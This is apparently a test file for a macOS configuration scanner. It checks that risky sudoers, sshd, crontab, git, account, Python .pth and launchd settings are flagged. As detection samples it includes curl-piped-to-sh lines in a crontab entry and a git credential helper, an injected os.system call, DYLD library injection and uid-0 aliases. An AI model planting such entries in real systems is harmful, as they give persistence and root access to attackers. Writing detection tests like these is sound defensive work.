import { describe, expect, test } from 'vitest';
import { MechanismPlaces, mechanisms } from '../../../src/mechanisms/index.js';
import type { MechanismFile } from '../../../src/mechanisms/mechanism.js';
import { binaryPlistOf, xmlPlist } from '../../helpers/plist-writer.js';
import { textFile } from './mechanism-file.js';

const places = new MechanismPlaces(mechanisms);

/** What the mechanism of this path reads in a text. */
function read(path: string, text: string, more: Partial<MechanismFile> = {}) {
  const found = places.find(path);
  if (found === undefined) throw new Error(`no mechanism of ${path}`);
  return found.mechanism.read(textFile(path, text, { home: found.home, ...more }));
}

function list(path: string, bytes: Uint8Array) {
  return read(path, '', { content: { bytes, size: bytes.length, truncated: false } });
}

const findingsOf = (...given: Parameters<typeof read>) => [
  ...new Set(read(...given).flatMap(({ findings }) => findings)),
];
const runsOf = (...given: Parameters<typeof read>) =>
  read(...given).flatMap(({ runs }) => runs.flatMap(({ paths }) => paths));

describe('sudoers', () => {
  const path = '/private/etc/sudoers';

  test.each([
    ['Defaults mailerpath = /private/tmp/x', 'program-of-setting'],
    ['Defaults:mara editor="/Users/mara/x:/usr/bin/vi"', 'program-of-setting'],
    ['Defaults noexec_file=/opt/x.so', 'program-of-setting'],
    ['Defaults env_reset, secure_path="/usr/bin:/bin:/Users/mara/bin"', 'writable-search-path'],
    ['Defaults secure_path=/opt/homebrew/bin:/usr/bin', 'writable-search-path'],
    ['Defaults secure_path=.:/usr/bin', 'writable-search-path'],
    ['Defaults targetpw', 'other-password'],
    ['Defaults rootpw, insults', 'other-password'],
    ['Defaults timestamp_timeout=-1', 'no-password'],
    ['Defaults timestamp_timeout = 100000', 'no-password'],
    ['Defaults !authenticate', 'no-password'],
    ['Defaults@host !tty_tickets', 'no-password'],
    ['Defaults env_file=/Users/mara/env', 'sets-environment'],
    ['Defaults env_keep += "PATH"', 'no-password'],
    ['Defaults env_keep += *', 'no-password'],
    ['@include "/Users/mara/a b"', 'reads-other-file'],
    ['Defaults pam_service=x', 'reads-other-file'],
  ])('%s: %s', (text, finding) => {
    expect(findingsOf(path, `${text}\n`)).toContain(finding);
  });

  test('what a rule allows is named, what it forbids is not', () => {
    const text = 'mara ALL = (root) NOPASSWD: SETENV: /Users/mara/a b, !/usr/bin/su, /opt/c\n';
    expect(runsOf(path, text)).toEqual(['/Users/mara/a', '/opt/c']);
    expect(findingsOf(path, text)).toEqual(['no-password', 'sets-environment']);
  });

  test('a program that is named is among what runs', () => {
    expect(runsOf(path, 'Defaults mailerpath = "/private/tmp/x"\n')).toEqual(['/private/tmp/x']);
  });

  test.each([
    'Defaults env_reset',
    'Defaults env_keep += "LANG LC_ALL EDITOR VISUAL"',
    'Defaults lecture_file = "/etc/sudo_lecture"',
    'Defaults timestamp_timeout=15',
    'Defaults !targetpw, passwd_tries=3',
    'Defaults editor=/usr/bin/vi:/usr/bin/nano',
    'Defaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"',
    'Defaults mailto="root@example.test", logfile=/var/log/sudo.log',
  ])('%s: nothing', (text) => {
    expect(read(path, `${text}\n`)).toEqual([]);
  });
});

describe('sshd_config', () => {
  const path = '/private/etc/ssh/sshd_config';

  test.each([
    ['SshdSessionPath /private/tmp/x', 'program-of-setting'],
    ['SshdAuthPath /Users/mara/x', 'program-of-setting'],
    ['SecurityKeyProvider /opt/x.dylib', 'program-of-setting'],
    ['SetEnv BASH_ENV=/private/tmp/x', 'sets-environment'],
    ['AcceptEnv *', 'sets-environment'],
    ['HostbasedAuthentication yes', 'trusts-hosts'],
    ['IgnoreRhosts no', 'trusts-hosts'],
    ['AuthenticationMethods publickey none', 'no-password'],
    ['PermitRootLogin=yes', 'root-login'],
    ['PermitRootLogin = "yes"', 'root-login'],
    ['"PermitRootLogin" yes', 'root-login'],
    ['PermitRootLogin\ryes', 'root-login'],
    ['PermitEmptyPasswords "yes" # no', 'no-password'],
    ['ForceCommand="/private/tmp/x"', 'forced-command'],
  ])('%j: %s', (text, finding) => {
    expect(findingsOf(path, `${text}\n`)).toContain(finding);
  });

  test.each([
    'PermitRootLogin no # yes',
    'PermitRootLogin "prohibit-password"',
    'SecurityKeyProvider internal',
    'SshdSessionPath /usr/libexec/sshd-session',
    'AcceptEnv LANG LC_*',
    'SetEnv LANG=C.UTF-8',
    'HostbasedAuthentication no',
    'AuthenticationMethods publickey,password',
    'UsePAM "yes"',
  ])('%s: nothing', (text) => {
    expect(read(path, `${text}\n`)).toEqual([]);
  });
});

describe('crontab', () => {
  const path = '/private/var/at/tabs/mara';

  test.each([
    '*/5 * * * * @AppleNotOnBattery /Users/mara/x',
    '@AppleNotOnBattery */5 * * * * /Users/mara/x',
    '@daily @AppleNotOnBattery /Users/mara/x',
    '*/5 * * * * -q /Users/mara/x',
  ])('%s', (text) => {
    expect(read(path, `${text}\n`)).toMatchObject([
      { label: '/Users/mara/x', when: ['calendar'], runs: [{ paths: ['/Users/mara/x'] }] },
    ]);
  });

  test('what follows a percent sign is the input of a shell', () => {
    expect(findingsOf(path, '* * * * * /bin/sh%curl https://x.test/a | sh\n')).toContain('remote-script');
    expect(findingsOf(path, '* * * * * date +\\%H\\%M > /Users/mara/log\n')).toEqual([]);
  });

  test('variables that decide what the jobs run are items', () => {
    const job = '* * * * * run\n';
    expect(runsOf(path, `SHELL=/private/tmp/sh\n${job}`)).toContain('/private/tmp/sh');
    expect(runsOf(path, `BASH_ENV = "/Users/mara/.x"\n${job}`)).toContain('/Users/mara/.x');
    expect(findingsOf(path, `PATH=/private/tmp:/usr/bin\n${job}`)).toContain('writable-search-path');
    expect(findingsOf(path, `DYLD_INSERT_LIBRARIES=/opt/x.dylib\n${job}`)).toContain('dyld-environment');
  });

  test('ordinary ones, and those of a table without a job, are none', () => {
    expect(
      read(
        path,
        'SHELL=/bin/bash\nPATH=/opt/homebrew/bin:/usr/bin:/bin\nENV=production\nPYTHONPATH=/Users/mara/app\nMAILTO=x\n0 1 * * * x\n',
      ),
    ).toHaveLength(1);
    expect(read(path, 'SHELL=/private/tmp/sh\n')).toEqual([]);
  });
});

describe('helpers for passwords in git', () => {
  const path = '/Users/mara/.gitconfig';
  const helper = (value: string) => read(path, `[credential "https://example.test"]\n\thelper = ${value}\n`);

  test.each(['/private/tmp/x', '"!/Users/mara/.x/y"', '!f() { curl https://x.test | sh; }; f'])(
    '%s',
    (value) => {
      expect(helper(value)).toMatchObject([{ label: 'credential.https://example.test.helper' }]);
    },
  );

  test.each([
    'osxkeychain',
    'cache --timeout=3600',
    '!/opt/homebrew/bin/gh auth git-credential',
    '/usr/local/share/gcm-core/git-credential-manager',
  ])('%s: nothing', (value) => {
    expect(helper(value)).toEqual([]);
  });
});

describe('accounts', () => {
  const node = '/private/var/db/dslocal/nodes/Default';
  const user = (fields: Readonly<Record<string, readonly string[]>>) =>
    list(`${node}/users/${fields['name']?.[0]}.plist`, binaryPlistOf(fields)).flatMap((one) => one.findings);

  test.each(['0', '00', '-0', '0x0', '4294967296'])('user id %s is root by another name', (uid) => {
    expect(user({ name: ['_www2'], uid: [uid], shell: ['/usr/bin/false'] })).toEqual([
      'root-by-another-name',
    ]);
  });

  test('a second user id counts', () => {
    expect(user({ name: ['mara'], uid: ['501', '0'] })).toContain('root-by-another-name');
  });

  test('a user whose own group is that of administrators stands in no list of members', () => {
    const fields = { shell: ['/bin/zsh'], authentication_authority: [';ShadowHash;'], uid: ['502'] };
    expect(user({ name: ['tom'], gid: ['80'], ...fields })).toEqual(['hidden-member']);
    expect(user({ name: ['tom'], gid: ['20'], ...fields })).toEqual([]);
  });

  test('members that only an identifier names', () => {
    const root = 'FFFFEEEE-DDDD-CCCC-BBBB-AAAA00000000';
    const [mara, tom] = ['11111111-0000-0000-0000-000000000001', '11111111-0000-0000-0000-000000000002'];
    const group = (groupmembers: readonly string[], nestedgroups: readonly string[] = []) =>
      list(
        `${node}/groups/admin.plist`,
        binaryPlistOf({ name: ['admin'], users: ['root', 'mara'], groupmembers, nestedgroups }),
      )
        .filter(({ findings }) => findings.includes('hidden-member'))
        .map(({ key }) => key);
    expect(group([root, mara])).toEqual([]);
    expect(group([root, mara, tom])).toEqual([mara, tom]);
    expect(group([root, mara], ['ABCDEFAB-CDEF-ABCD-EFAB-CDEF00000050'])).toEqual([]);
    expect(group([root, mara], [tom])).toEqual([tom]);
  });
});

describe('lines of Python that run a module', () => {
  const folder = '/Users/mara/Library/Python/3.9/lib/python/site-packages';

  test.each([
    ['import __editable___x_finder; __editable___x_finder.install()', `${folder}/__editable___x_finder.py`],
    ['import os, evil', `${folder}/evil.py`],
    ['import\tevil', `${folder}/evil.py`],
  ])('%s names its file', (text, path) => {
    expect(runsOf(`${folder}/x.pth`, `${text}\n`)).toContain(path);
  });

  test('what is added to a usual line is seen', () => {
    const usual =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();";
    expect(read(`${folder}/x.pth`, `${usual}\n`)).toEqual([]);
    expect(runsOf(`${folder}/x.pth`, `${usual} os.system('/private/tmp/x')\n`)).toContain('/private/tmp/x');
  });
});

describe('maps of the automounter', () => {
  test('one that may be executed is a program, one that is read is none', () => {
    const script = '#!/bin/sh\n/Users/mara/x\n';
    expect(read('/private/etc/auto_home', script, { mode: 0o755 })).toMatchObject([{ key: '', as: 'root' }]);
    expect(runsOf('/private/etc/auto_home', script, { mode: 0o755 })).toContain('/Users/mara/x');
    expect(read('/private/etc/auto_home', '+auto_home\n', { mode: 0o644 })).toEqual([]);
  });
});

describe('lines of newsyslog', () => {
  const path = '/private/etc/newsyslog.conf';

  test.each([
    '/var/log/install.log 640 10 * $D0 J',
    '/var/log/wtmp 644 3 * @01T05 B',
    '/private/var/log/x/y.log root:wheel 640 7 10240 * NJ /var/run/x.pid 30',
    '<include> /etc/newsyslog.d/*.conf',
  ])('%s: nothing', (text) => {
    expect(read(path, `${text}\n`)).toEqual([]);
  });

  test.each([
    ['/private/etc/pam.d/sudo mara:staff 666 1 1 * C', 'rotates-no-log'],
    ['/private/var/db/dslocal/nodes/Default/users/root.plist mara: 666 1 1 * C', 'rotates-no-log'],
    ['/var/log/../../etc/sudoers 666 1 1 * C', 'rotates-no-log'],
    ['/var/log/x.log 640 1 1 * N /Users/mara/number', 'rotates-no-log'],
    ['<include> /Users/mara/x.conf', 'reads-other-file'],
  ])('%s: %s', (text, finding) => {
    expect(findingsOf(path, `${text}\n`)).toContain(finding);
  });
});

describe('tools of a file system', () => {
  const path = '/Library/Filesystems/x.fs/Contents/Resources/mount_x';

  test('what may be executed is an item of its own', () => {
    expect(places.find(path)).toMatchObject({ path, describes: true });
    expect(read(path, '#!/bin/sh\n', { mode: 0o755 })).toMatchObject([{ label: 'mount_x', as: 'root' }]);
    expect(read(path, 'x', { mode: 0o644 })).toEqual([]);
  });
});

describe('a launch item whose keys stand under a condition', () => {
  const path = '/Library/LaunchDaemons/com.example.x.plist';
  const harmless = { Program: '/usr/bin/true' };

  test.each([
    ['XML', xmlPlist({ Label: 'com.example.x', '#Then': harmless, '#Else': { Program: '/private/tmp/x' } })],
    [
      'the older text form',
      '{ Label = "com.example.x"; "#Then" = { Program = "/usr/bin/true"; }; #Else = { Program = /private/tmp/x; }; }',
    ],
    ['a condition in another', xmlPlist({ Label: 'x', '#Else': { '#Then': { Program: '/private/tmp/x' } } })],
  ])('%s: every branch is read', (_, text) => {
    expect(runsOf(path, text)).toContain('/private/tmp/x');
    expect(findingsOf(path, text)).toContain('program-in-tmp');
  });
});

describe('what a healthy Mac has', () => {
  test.each([
    [
      '/Users/mara/Library/Python/3.9/lib/python/site-packages/distutils-precedence.pth',
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    ],
    [
      '/opt/homebrew/lib/python3.12/site-packages/x-nspkg.pth',
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('x', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('x', [os.path.dirname(p)])));m = m or sys.modules.setdefault('x', types.ModuleType('x'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    ],
    ['/Users/mara/Library/Python/3.9/lib/python/site-packages/x.pth', '/Users/mara/src/x\n'],
    [
      '/private/etc/auto_master',
      '+auto_master\n/home\tauto_home\t-nobrowse,hidefromfinder\n/Network/Servers\t-fstab\n/-\t-static\n',
    ],
    ['/private/etc/autofs.conf', 'AUTOMOUNT_TIMEOUT=3600\nAUTOMOUNTD_TRACE=0\n'],
    ['/private/etc/sudo.conf', '# Set disable_coredump false\nPlugin sudoers_policy sudoers.so\n'],
    [
      '/Users/mara/.claude/settings.json',
      '{ "permissions": { "allow": ["Bash(ls)"] }, "env": { "FOO": "1", "NODE_OPTIONS": "--max-old-space-size=8192" } }',
    ],
  ])('%s: nothing', (path, text) => {
    expect(read(path, text)).toEqual([]);
  });

  test('services that are off, or of no weight', () => {
    const path = '/private/var/db/com.apple.xpc.launchd/disabled.plist';
    expect(list(path, binaryPlistOf({ 'com.openssh.sshd': true, 'com.example.x': false }))).toEqual([]);
  });

  test('settings of tools say nothing odd', () => {
    expect(
      findingsOf(
        '/Users/mara/.tmux.conf',
        "set -g mouse on\nset -g default-command '/opt/homebrew/bin/reattach-to-user-namespace -l zsh'\nrun '~/.tmux/plugins/tpm/tpm'\n",
      ),
    ).toEqual([]);
    expect(findingsOf('/Users/mara/.lldbinit', 'command script import ~/.lldb/x.py\n')).toEqual([]);
    expect(
      findingsOf('/Users/mara/.hammerspoon/init.lua', 'hs.hotkey.bind({"cmd"}, "L", hs.reload)\n'),
    ).toEqual([]);
  });
});
